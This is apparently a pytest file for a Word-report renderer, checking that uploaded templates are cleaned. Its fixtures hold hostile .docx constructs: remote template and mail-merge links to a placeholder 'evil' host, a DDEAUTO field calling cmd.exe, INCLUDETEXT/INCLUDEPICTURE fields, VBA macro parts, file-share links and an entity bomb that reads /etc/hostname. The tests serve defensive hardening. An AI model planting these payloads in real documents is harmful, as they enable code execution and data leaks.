"""Word documents that would fetch or run something: their text goes into the report, that does not."""

from __future__ import annotations

import io
import re
import zipfile
from contextlib import suppress
from html import escape

import pytest
from docx import Document
from plugspan.errors import InputError
from plugspan.render.pictures.charts import svg_png
from plugspan.render.report import template as module
from plugspan.render.report.doc import open_paper
from plugspan.render.report.template import clean_document

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
URL = "http://127.0.0.1:9/evil"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PNG = svg_png(
    '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>', 4
)


def field(*codes, result="shown"):
    """A paragraph with a field, whose code may stand in several runs and hold another field."""
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "separate", "end")
    )
    runs = ""
    for code in codes:
        inner = re.fullmatch("<w:p>(.*)</w:p>", code)
        runs += inner[1] if inner else f"<w:r><w:instrText>{escape(code)}</w:instrText></w:r>"
    return f"<w:p>{begin}{runs}{middle}<w:r><w:t>{result}</w:t></w:r>{end}</w:p>"


def document(path, body="", *, parts=None, rels="", settings="", settings_rels="", types=""):
    """A plain document with a picture and more: XML before its end, relations, further parts."""
    plain = io.BytesIO()
    made = Document()
    made.add_paragraph("某市交通运输局文件")
    made.add_picture(io.BytesIO(PNG))
    made.sections[0].header.paragraphs[0].text = "局内资料"
    made.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "word/document.xml":
                content = content.replace(b"<w:sectPr", f"{body}<w:sectPr".encode(), 1)
            elif name == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", f"{rels}</Relationships>".encode())
            elif name == "word/settings.xml":
                content = content.replace(b"</w:settings>", f"{settings}</w:settings>".encode())
            elif name == "[Content_Types].xml":
                content = content.replace(b"</Types>", f"{types}</Types>".encode())
            new.writestr(name, content)
        if settings_rels:
            spaces = "http://schemas.openxmlformats.org/package/2006/relationships"
            new.writestr(
                "word/_rels/settings.xml.rels",
                f'<Relationships xmlns="{spaces}">{settings_rels}</Relationships>',
            )
        for name, content in (parts or {}).items():
            new.writestr(name, content)
    return path


def relation(kind, target, mode="External", number="rEvil"):
    """A relation to something."""
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def saved(path):
    """All parts of a report that begins with the template, as one text each; its paragraphs; what was left out."""
    held = io.BytesIO()
    open_paper(path, "zh").document.save(held)
    with zipfile.ZipFile(held) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    words = "\n".join(p.text for p in Document(held).paragraphs)
    left_out = clean_document(path)[1]
    return parts, words, "" if left_out is None else left_out.values["names"]


NS = f'xmlns:w="{W}" xmlns:r="{OFFICE}"'
DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="x">'
    '<a:blip {}/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
)  # fmt: skip
CASES = {
    "a template on a server": (
        {"settings": f'<w:attachedTemplate {NS} r:id="rEvil"/>', "settings_rels": relation("attachedTemplate", URL)},
        "attachedTemplate",
    ),
    "data of a server": (
        {"settings": f'<w:mailMerge {NS}><w:connectString w:val="{URL}"/><w:dataSource r:id="rEvil"/></w:mailMerge>',
         "settings_rels": relation("mailMergeSource", URL)},
        "mailMerge, mailMergeSource",
    ),
    "a picture by address": ({"body": DRAWING.format(f'{NS} r:link="rEvil"'), "rels": relation("image", URL)}, "image"),
    "a picture inside and by address": (
        {"body": DRAWING.format(f'{NS} r:embed="rId9" r:link="rEvil"'), "rels": relation("image", URL)}, "image"
    ),
    "an old drawing by address": (
        {"body": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
         f'<v:imagedata src="{URL}"/></v:shape></w:pict></w:r></w:p>'}, ""
    ),
    "a drawing that is XML": (
        {"body": DRAWING.format(f'{NS} r:embed="rEvil"'), "rels": relation("image", "media/evil.svg", None),
         "parts": {"word/media/evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/></svg>'},
         "types": '<Default Extension="svg" ContentType="image/svg+xml"/>'}, "image"
    ),
    "macros": (
        {"rels": '<Relationship Id="rEvil" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
         'Target="vbaProject.bin"/>', "parts": {"word/vbaProject.bin": b"evil"},
         "types": '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'}, "vbaProject"
    ),
    "another document inside": (
        {"body": f'<w:altChunk {NS} r:id="rEvil"/>', "rels": relation("aFChunk", "evil.html", None),
         "parts": {"word/evil.html": f"<img src='{URL}'>"},
         "types": '<Default Extension="html" ContentType="text/html"/>'}, "aFChunk, altChunk"
    ),
    "an object": (
        {"body": f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" {NS} '
         'r:id="rEvil"/></w:object></w:r></w:p>', "rels": relation("oleObject", URL)}, "OLEObject, object, oleObject"
    ),
    "a link to a file": (
        {"body": f'<w:p><w:hyperlink {NS} r:id="rEvil"><w:r><w:t>shown</w:t></w:r></w:hyperlink></w:p>',
         "rels": relation("hyperlink", "file:////evil/share")}, "hyperlink"
    ),
    "a part of the document": (
        {"body": f'<w:subDoc {NS} r:id="rEvil"/>', "rels": relation("subDocument", URL)}, "subDoc, subDocument"
    ),
    "a field with a picture": ({"body": field("INCLUDEPICTURE ", URL)}, "INCLUDEPICTURE"),
    "a field in pieces": ({"body": field("INCL", "UDETEXT", f" {URL}")}, "INCLUDETEXT"),
    "a program": ({"body": field(r"DDEAUTO c:\\windows\\cmd.exe evil")}, "DDEAUTO"),
    "a field whose name is made by another": ({"body": field(field('QUOTE "DDE"'), r" c:\\evil")}, "C"),
    "a field inside a field": ({"body": field("IF ", field(f"INCLUDETEXT {URL}"), " = 1")}, "INCLUDETEXT"),
    "a field without end": ({"body": field(f"DDE {URL}").partition("<w:r><w:t>")[0] + "</w:p>"}, "?"),
    "a simple field": (
        {"body": f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {URL}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'},
        "INCLUDEPICTURE",
    ),
    "a link field to a file": ({"body": field('HYPERLINK "file:///evil"')}, "HYPERLINK"),
    "a link field that hides a file": ({"body": field(r'HYPERLINK "https://a.b" \l "file:///evil"')}, "HYPERLINK"),
    "a link field to a share": ({"body": field(r"HYPERLINK \\\\evil\\share")}, "HYPERLINK"),
    "an instruction of a program": ({"body": f'<?mso-application evil="{URL}"?>'}, ""),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_what_leads_out_does_not_reach_the_report(tmp_path, name):
    """Neither address nor program nor field is in any part; text, header and the picture inside are."""
    made, left_out = CASES[name]
    parts, words, names = saved(document(tmp_path / "t.docx", **made))
    whole = b"\n".join(parts.values())
    assert not re.search(rb"evil|127\.0\.0\.1|INCLUDE|UDETEXT|>\s*DDE|External", whole), name
    assert PNG in parts.values()
    assert "某市交通运输局文件" in words
    assert ("shown" in words) == ("shown" in made.get("body", ""))
    assert names == left_out


def test_what_is_harmless_stays(tmp_path):
    """Links to the web, fields of the document itself; nothing is said to be left out."""
    body = f'<w:p><w:hyperlink {NS} r:id="rWeb"><w:r><w:t>web</w:t></w:r></w:hyperlink></w:p>'
    codes = (
        r"PAGE \* MERGEFORMAT",
        r" TOC \o ",
        r'HYPERLINK \l "_Toc1"',
        "= 1 + 2",
        'HYPERLINK "https://example.org/a?b"',
    )
    body += "".join(map(field, codes))
    path = document(
        tmp_path / "t.docx", body, rels=relation("hyperlink", "https://example.org", number="rWeb")
    )
    parts, words, names = saved(path)
    text = parts["word/document.xml"].decode()
    assert names == ""
    assert "web" in words
    assert text.count("<w:instrText>") == 5
    assert b"https://example.org" in parts["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "kind", ["document.macroEnabled.main", "template.main", "template.macroEnabledTemplate.main"]
)
def test_templates_with_and_without_macros_become_plain_documents(tmp_path, kind):
    """What the office saves as .dotx, .docm or .dotm serves as well; the report is a .docx."""
    path = document(tmp_path / "a.docx")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp_path / "t.docx", "w") as new:
        for name in old.namelist():
            new.writestr(
                name, old.read(name).replace(b"wordprocessingml.document.main", f"x.{kind}".encode())
            )
    parts, words, _ = saved(tmp_path / "t.docx")
    assert "某市交通运输局文件" in words
    assert b"acro" not in parts["[Content_Types].xml"]


@pytest.mark.parametrize("part", ["word/document.xml", "word/settings.xml", "word/styles.xml", "_rels/.rels"])
def test_entities_are_refused_in_every_part(tmp_path, part):
    """Entities that double each other, and one that stands for a file."""
    path = document(tmp_path / "a.docx")
    bomb = b'<!DOCTYPE a [<!ENTITY x0 "ha"><!ENTITY x1 "&x0;&x0;"><!ENTITY y SYSTEM "file:///etc/hostname">]>'
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp_path / "t.docx", "w") as new:
        for name in old.namelist():
            content = old.read(name)
            declared, _, rest = content.partition(b"?>")
            new.writestr(name, declared + b"?>" + bomb + rest if name == part else content)
    with pytest.raises(InputError) as caught:
        open_paper(tmp_path / "t.docx", "zh")
    assert [fault.key for fault in caught.value.faults] == ["xml-doctype"]


@pytest.mark.parametrize("kind", ["styles", "numbering", "settings", "theme", "header"])
def test_parts_that_are_something_else(tmp_path, kind):
    """The document or a header as styles: found by fuzzing, the report failed on it."""
    path = document(tmp_path / "a.docx")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp_path / "t.docx", "w") as new:
        rels = old.read("word/_rels/document.xml.rels").decode()
        part = re.search(f'/{kind}" Target="([^"]*)"', rels) or re.search(
            f'Target="([^"]*)" Type="[^"]*/{kind}"', rels
        )
        for name in old.namelist():
            other = "word/document.xml" if name == f"word/{part[1]}" else name
            new.writestr(name, old.read(other))
    with pytest.raises(InputError) as caught:
        open_paper(tmp_path / "t.docx", "zh")
    assert [fault.key for fault in caught.value.faults] == ["package-broken"]
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp_path / "t.docx", "w") as new:
        for name in old.namelist():
            rels = (
                old.read(name).replace(part[1].encode(), b"document.xml")
                if name.endswith("xml.rels")
                else None
            )
            new.writestr(name, rels or old.read(name))
    _, _, names = saved(tmp_path / "t.docx")
    assert names == kind


def test_parts_are_bounded(tmp_path, monkeypatch):
    """One that unpacks to more than the limit is told; parts that name each other in turn are not followed."""
    path = document(tmp_path / "t.docx", body="<w:p/>" * 20_000)
    with monkeypatch.context() as patched:
        patched.setattr(module, "MOST_PART_MB", 0.1)
        with pytest.raises(InputError) as caught:
            open_paper(path, "zh")
        assert [fault.key for fault in caught.value.faults] == ["package-too-large"]
    chain = {}
    for i in range(2000):
        rels = relation("header", f"h{i + 1}.xml", None)
        chain[f"word/h{i}.xml"] = f'<w:hdr xmlns:w="{W}"/>'
        chain[f"word/_rels/h{i}.xml.rels"] = (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
        )
    path = document(tmp_path / "t.docx", parts=chain, rels=relation("header", "h0.xml", None))
    parts, _, names = saved(path)
    assert "word/h1.xml" not in parts
    assert names == "header"


def test_every_flipped_bit_is_told_or_harmless(tmp_path):
    """Bytes of a template damaged in turn: a document or a fault, never another error."""
    whole = document(tmp_path / "t.docx").read_bytes()
    for at in range(0, len(whole), 1999):
        (tmp_path / "b.docx").write_bytes(whole[:at] + bytes([whole[at] ^ (1 << at % 8)]) + whole[at + 1 :])
        with suppress(InputError):
            open_paper(tmp_path / "b.docx", "zh")
